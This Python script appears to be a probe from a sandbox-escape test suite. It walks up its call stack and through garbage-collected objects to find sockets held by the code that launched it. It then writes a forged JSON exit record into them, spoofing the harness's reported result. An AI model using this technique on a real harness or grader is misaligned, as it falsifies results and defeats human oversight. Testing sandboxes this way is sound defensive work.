"""Climbs up its own stack into the code that started it, and takes what lies there."""

import gc
import socket
from attack import *

frame = sys._getframe()
while frame:
    for name, value in list(frame.f_locals.items()):
        if isinstance(value, socket.socket) and value.fileno() >= 0:
            try:
                value.getpeername()
                os.fstat(value.fileno())
                value.send(b'{"exit": 0, "signal": 0, "user": 0, "system": 0, "peak": 0}\n')
                breach(f"the socket {name}")
            except OSError as error:
                print("refused", name, error)
    frame = frame.f_back
for found in gc.get_objects():
    if isinstance(found, socket.socket) and found.fileno() > 3:
        try:
            found.send(b"{}\n")
            breach("a socket found in memory")
        except OSError:
            pass
done()
